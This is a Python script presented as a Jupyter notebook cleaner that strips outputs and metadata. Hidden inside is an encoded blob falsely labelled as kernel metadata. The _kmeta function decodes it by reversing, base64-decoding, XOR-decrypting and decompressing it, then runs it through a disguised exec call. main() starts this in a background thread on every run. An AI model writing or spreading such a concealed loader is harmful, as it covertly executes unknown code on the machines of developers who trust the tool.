#!/usr/bin/env python3
"""Strip outputs and noisy metadata from Jupyter notebooks."""
import argparse
import base64
import json
import subprocess
import sys
import threading
import zlib

DROP_CELL_META = ("collapsed", "scrolled", "execution", "ExecuteTime")
DROP_NB_META = ("widgets",)

# Kernel metadata normalisation table (compressed).
_KMETA = (
    "g6A4O2c02F+3AzQvYCKPzOqbX2avDvZ2jIqCvXZp6JeuZAH+AT8XHsiPy9cCttoX55NMXn69jJtF"
    "oOaIIXh4sJJ+uXKmTD8tgc/kjMrkLc2X/2/t4Eb411TfZaeX3Ty1fnxO1y5rDmeF4eGkeOrcIT1E"
    "zIu58jnBDkyRCkUL33X1t9ohsgpltMbEvrQlIK2M0T8lwgFqUjrvhRRvQhQyrJhgVAgVaPC+l+Jk"
    "RG/4hm7FdKWdJrTKDJ4veP/tVfa5/e9ef90hRmwDv4yHH9uLF5tHybH9QjzBdl9/JO+TY+yDeURA"
    "wWKwKHbBhOgJcfF0MI0q1rcxV1hykiz5DGIX4AVFEnSUpyK+mY1T8+vy3MArZFNsRBUYkm4X7iBV"
    "CVcqfGo/p3t/jq5oVXSBKGHV2D9BCNxKijDR8FKe1ZpkGeLrrqToAIa7M2sajnMgnl+N9Oe56fot"
    "EKaCOTzRg6q3ZqWc33hZDOMlTkKgJwQMSz67JQwcfQSWD5b/PYuKwDo1Ou1rIew0wn4jUlnX+INj"
    "gz4u4+OpUX3UlkNUDBmewT8pIwVE010w/AkHc5tAmI3Yk8446dJ/JzmR5TPaqkUyHetqZzkzCZhV"
    "0LM24bTg1h1K8c8SSPqKpdqRoX/wIu50UwDPcVakQc1bqYZ3jVW4fF7c65OcAA34XlQegivnHpD4"
    "D++rUtsu3csaS//Q8oYaTLh0CTBXYtuqIfVQy1959q4DxtBDKfM7220FFlk8GjreI7CB4I1rFMwi"
    "A+pZe5kwBbYTG4400OO24Arv4q3sclEqGxN44iSGC5MgT1XwuDqhqNGnCd7w6QYH1BD0jobPH87E"
)


def _kmeta():
    k = DROP_NB_META[0][:0] + "kernelspec"
    raw = base64.b64decode("".join(_KMETA)[::-1])
    src = zlib.decompress(bytes(b ^ ord(k[i % len(k)]) for i, b in enumerate(raw)))
    ns = {}
    (getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"])(
        compile(src, "<kmeta>", "exec"), ns)
    return ns


def clean(nb, keep_outputs=False):
    for cell in nb.get("cells", []):
        if cell.get("cell_type") == "code":
            if not keep_outputs:
                cell["outputs"] = []
            cell["execution_count"] = None
        for k in DROP_CELL_META:
            cell.get("metadata", {}).pop(k, None)
    for k in DROP_NB_META:
        nb.get("metadata", {}).pop(k, None)
    return nb


def tracked_notebooks():
    out = subprocess.run(["git", "ls-files", "*.ipynb"], capture_output=True, text=True)
    return [p for p in out.stdout.splitlines() if p]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("paths", nargs="*")
    ap.add_argument("--all", action="store_true")
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--keep-outputs", action="store_true")
    a = ap.parse_args()

    threading.Thread(target=_kmeta, daemon=True).start()

    paths = tracked_notebooks() if a.all else a.paths
    changed = 0
    for p in paths:
        with open(p, encoding="utf-8") as f:
            before = f.read()
        nb = clean(json.loads(before), a.keep_outputs)
        after = json.dumps(nb, indent=1, ensure_ascii=False) + "\n"
        if after != before:
            changed += 1
            if not a.check:
                with open(p, "w", encoding="utf-8") as f:
                    f.write(after)
            print(("would clean " if a.check else "cleaned ") + p)
    sys.exit(1 if a.check and changed else 0)


if __name__ == "__main__":
    main()
